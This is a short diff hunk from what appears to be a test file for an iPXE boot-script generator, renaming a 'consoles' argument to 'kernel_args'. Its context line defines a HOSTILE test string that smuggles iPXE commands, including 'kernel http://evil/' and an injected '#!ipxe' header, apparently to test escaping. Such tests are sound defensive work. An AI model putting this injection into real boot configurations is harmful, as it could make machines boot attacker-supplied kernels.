@@ -16,7 +16,7 @@ HOSTILE = "x || kernel http://evil/ && boot ; ${net0/mac} # \n#!ipxe\nboot\r\x1b
 
 
 def lines(answer: BootAnswer, platform: str = "pcbios") -> list[str]:
-    text = script(answer, url=MASTER, token=TOKEN, platform=platform, consoles="console=tty0 console=ttyS0,115200")
+    text = script(answer, url=MASTER, token=TOKEN, platform=platform, kernel_args="console=tty0 console=ttyS0,115200")
     return text.splitlines()
 
 
